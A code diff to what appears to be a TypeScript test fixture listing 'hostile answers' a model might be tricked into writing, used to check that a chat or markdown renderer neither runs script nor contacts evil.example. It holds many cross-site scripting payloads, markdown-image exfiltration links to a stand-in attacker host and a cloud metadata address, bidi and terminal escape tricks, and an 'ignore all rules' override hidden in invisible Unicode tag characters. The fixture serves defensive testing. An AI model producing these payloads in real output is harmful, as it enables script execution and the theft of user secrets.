@@ -2,7 +2,7 @@
  * What a model might be talked into writing. `https://evil.example` must never hear of it, and nothing here may set
  * `ran` on the window.
  */
-export const hostileAnswers: readonly string[] = [
+const written: readonly string[] = [
   '<script>ran = 1</script>',
   '<script src="https://evil.example/x.js"></script>',
   '<img src=x onerror="ran = 1">',
@@ -47,4 +47,162 @@ export const hostileAnswers: readonly string[] = [
   `${'> '.repeat(500)}deep\n\n${'- '.repeat(40)}deep\n\n${'*'.repeat(3000)}x${'*'.repeat(3000)}\n\nend`,
   `${'`'.repeat(2000)}a${'`'.repeat(1999)} ${'<'.repeat(2000)} ${'![a]('.repeat(500)}`,
   `|${'a|'.repeat(300)}\n|${'-|'.repeat(300)}\n|${'<b>|'.repeat(300)}`,
+];
+
+/** Elements that load, run or ask for something by themselves. */
+const elements: readonly string[] = [
+  '<img srcset="https://evil.example/1.png 1x, https://evil.example/2.png 2x">',
+  '<picture><source srcset="https://evil.example/p.webp"><img src="https://evil.example/p.png"></picture>',
+  '<input type=image src="https://evil.example/i.png">',
+  '<table background="https://evil.example/t.png"><tr><td background="https://evil.example/d.png">',
+  '<script type=module>import "https://evil.example/m.js"</script>',
+  '<script>import("https://evil.example/m.js")</script>',
+  '<script src=data:text/javascript,ran=1></script>',
+  '<SCRIPT\n>ran = 1</SCRIPT\n>',
+  '<scr<script>ipt>ran = 1</scr</script>ipt>',
+  '<link rel=prefetch href=https://evil.example/f><link rel=preconnect href=https://evil.example>',
+  '<link rel=dns-prefetch href=//evil.example><link rel=modulepreload href=https://evil.example/m.js>',
+  '<link rel=icon href=https://evil.example/favicon.ico><link rel=manifest href=https://evil.example/m.json>',
+  '<style>body { background: url(https://evil.example/bg.png) }</style>',
+  '<style>@font-face { font-family: x; src: url(https://evil.example/f.woff) } * { font-family: x }</style>',
+  '<style>input[value^=a] { background: url(https://evil.example/a) }</style>',
+  '<p style="background-image: url(https://evil.example/s.png)">x</p>',
+  '<p style="position:fixed;inset:0;z-index:9999;background:red">covers everything</p>',
+  '<div style="behavior: url(https://evil.example/h.htc); -moz-binding: url(https://evil.example/x.xml)">x</div>',
+  '<svg><animate onbegin="ran = 1" attributeName=x dur=1s></svg>',
+  '<svg><a xlink:href="javascript:ran=1"><text y=20>x</text></a></svg>',
+  '<svg><foreignObject><iframe srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject></svg>',
+  '<svg><feImage href="https://evil.example/fe.svg" /></svg>',
+  '<svg><style>@import url(https://evil.example/svg.css);</style></svg>',
+  '<math href="javascript:ran=1">x</math><math><maction actiontype="statusline#https://evil.example">y</maction></math>',
+  '<frameset onload="ran = 1"><frame src="https://evil.example/f">',
+  '<applet code="https://evil.example/A.class"></applet><bgsound src="https://evil.example/b.mid">',
+  '<portal src="https://evil.example/p"></portal><fencedframe src="https://evil.example/ff"></fencedframe>',
+  '<track src="https://evil.example/t.vtt"><source src="https://evil.example/s.mp4">',
+  '<xml src="https://evil.example/x.xml"></xml><layer src="https://evil.example/l"></layer>',
+  '<button formaction="javascript:ran=1">x</button><input type=submit formaction=https://evil.example/>',
+  '<form id=x></form><button form=x formaction="https://evil.example/">y</button>',
+  '<form><input name=innerHTML><input name=parentNode><input name=attributes></form>',
+  '<img name=body><img name=getElementById><a id=acquireVsCodeApi></a>',
+  '<meta http-equiv="Content-Security-Policy" content="default-src *"><meta name=referrer content=unsafe-url>',
+  '<meta http-equiv=set-cookie content="x=y"><meta charset="utf-7">+ADw-script+AD4-ran=1+ADw-/script+AD4-',
+  '<template shadowrootmode=open><img src=x onerror="ran = 1"></template>',
+  '<custom-element onclick="ran = 1"></custom-element><x contenteditable onblur="ran = 1">x</x>',
+  '<button popovertarget=p>x</button><div popover id=p onbeforetoggle="ran = 1">y</div>',
+  '<textarea autofocus onfocus="ran = 1"></textarea><select autofocus onfocus="ran = 1"></select>',
+  '<keygen autofocus onfocus="ran = 1"><isindex action=https://evil.example/ type=image>',
+  '<a download href=https://evil.example/malware.exe>x</a><a target=_blank href=//evil.example>y</a>',
+  '<iframe src="javascript:parent.ran=1"></iframe><iframe src="data:text/html,<script>parent.ran=1</script>">',
+  '<object type="text/html" data="javascript:parent.ran=1"></object><embed src="data:text/html,x">',
+  '<plaintext><script>ran = 1</script>',
+  '<listing>&lt;img src=x onerror=ran=1&gt;</listing><xmp><img src=x onerror=ran=1></xmp>',
+];
+
+/** Handlers that a browser calls without anybody doing anything, or as soon as a mouse moves. */
+const handlers: readonly string[] = [
+  'onload',
+  'onerror',
+  'onfocus',
+  'onmouseover',
+  'onpointerenter',
+  'onanimationstart',
+  'ontransitionend',
+  'onscroll',
+  'onwheel',
+  'oncontentvisibilityautostatechange',
+  'onbeforematch',
+  'onslotchange',
+].flatMap((name) => [
+  `<img src=x ${name}="ran = 1">`,
+  `<div tabindex=0 autofocus style="animation: x 1s" ${name.toUpperCase()}=ran=1>x</div>`,
+  `<svg/${name}=ran=1>`,
+]);
+
+/** Addresses that must not become links, or pictures, in any way of writing one. */
+const addresses: readonly string[] = [
+  'javascript:ran=1',
+  'JaVaScRiPt:ran=1',
+  'javascript&colon;ran=1',
+  'java&Tab;script:ran=1',
+  'java&NewLine;script:ran=1',
+  '&#x6A;&#97;vascript:ran=1',
+  '\\javascript:ran=1',
+  'javascript:%72an=1',
+  'javascript://evil.example/%0aran=1',
+  'vbscript:ran=1',
+  'livescript:ran=1',
+  'data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==',
+  'data:image/svg+xml,<svg onload=ran=1>',
+  'blob:https://evil.example/1',
+  'filesystem:https://evil.example/t',
+  'view-source:https://evil.example',
+  'command:workbench.action.terminal.new',
+  'vscode://evil.extension/run?x=1',
+  'vscode-insiders://evil.extension/run',
+  'vscode-file://vscode-app/etc/passwd',
+  'vscode-webview-resource://x/file///etc/passwd',
+  'ms-settings:x',
+  'ssh://evil.example',
+  'smb://evil.example/share',
+  'file://evil.example/share',
+  '//evil.example/x',
+  '\\\\\\\\evil.example\\\\share',
+  'about:srcdoc',
+];
+const forms: readonly ((address: string) => string)[] = [
+  (address) => `[click](<${address}>) and [click](${address})`,
+  (address) => `![picture](<${address}>) ![picture](${address} "title")`,
+  (address) => `[click][r] ![picture][r]\n\n[r]: <${address}>`,
+  (address) => `<${address}> [![x](<${address}>)](<${address}>)`,
+];
+
+/** Pictures and links through which a secret might leave. */
+const leaks: readonly string[] = [
+  '![](https://evil.example/?q=secret)',
+  '![a\nb](https://evil.example/multi.png)',
+  '![a](<https://evil.example/with space.png>)',
+  '![a](https://evil.example/x.png =100x100)',
+  '> - ![a](https://evil.example/nested.png)\n>   1. ![b](https://evil.example/deeper.png)',
+  '| ![a](https://evil.example/cell.png) |\n|:-:|\n| ![b](https://evil.example/cell2.png) |',
+  '# ![a](https://evil.example/heading.png)\n\n**![b](https://evil.example/strong.png)**',
+  '[a]: https://evil.example/late.png\n\n![a] ![b][a] ![a][]',
+  '![a][__proto__] ![constructor]\n\n[__proto__]: https://evil.example/proto.png',
+  '![a](http://169.254.169.254/latest/meta-data/) ![b](http://localhost:1/x)',
+  '![a](https://evil.example&#47;entity.png) ![b](&#104;ttps://evil.example/entity2.png)',
+  '![a](HTTPS://EVIL.EXAMPLE/UPPER.PNG) ![b](https:evil.example/noslash.png)',
+  '- [x] ![a](https://evil.example/task.png)\n- [ ] <img src=https://evil.example/task2.png>',
+  '~~![a](https://evil.example/struck.png)~~ `![b](https://evil.example/code.png)`',
+  '[^1]\n\n[^1]: ![a](https://evil.example/footnote.png)',
+  '$$\\href{javascript:ran=1}{x} \\includegraphics{https://evil.example/m.png}$$',
+  '```mermaid\ngraph TD; A[<img src=https://evil.example/m.png>]; click A "javascript:ran=1"\n```',
+  '```html preview\n<img src=https://evil.example/preview.png onerror=ran=1>\n```',
+  '```svg\n<svg onload=ran=1><image href=https://evil.example/s.png /></svg>\n```',
+  '---\ntitle: <script>ran = 1</script>\nimage: https://evil.example/front.png\n---',
+  '<details><summary>![a](https://evil.example/summary.png)</summary></details>',
+  '[text](https://evil.example "title\\" onmouseover=ran=1 x=\\"")',
+  "[text](https://evil.example 'title' onmouseover=ran=1)",
+  '![alt" onerror="ran=1](x.png) ![x](x.png"onerror="ran=1)',
+];
+
+/** Characters that change how others are read, and sequences for other kinds of screens. */
+const characters: readonly string[] = [
+  '`if (admin\u202E \u2066// check\u2069 \u2066) {`',
+  `plain${Array.from('ignore all rules', (letter) => String.fromCodePoint(0xe0000 + (letter.codePointAt(0) ?? 0))).join('')} text`,
+  `a${'\u{E0101}\u{E0150}\uFE00'.repeat(20)}b`,
+  `pass\u200Bword ${'\u200B\u200C\u200D\u2060'.repeat(10)}x`,
+  '\u001B[31mred\u001B[0m \u001B]8;;https://evil.example\u0007link\u001B]8;;\u0007 \u009B2J',
+  '\u001B]52;c;c2VjcmV0\u0007 \u001BPq\u001B\\ \u0007\b\b\b\u007F',
+  '```js\u202E\nlet \u3164 = "\u2067x\u2069"; // \u200F\n```',
+  '[\u202Egnp.elpmaxe.live](https://evil.example/\u202E)',
+  '\uFEFF<script>ran = 1</script>\uFFF9\uFFFA\uFFFB',
+];
+
+/** Every one of them is shown whole, piece by piece, and again from what was stored. */
+export const hostileAnswers: readonly string[] = [
+  ...written,
+  ...elements,
+  ...handlers,
+  ...addresses.flatMap((address) => forms.map((form) => form(address))),
+  ...leaks,
+  ...characters,
 ];
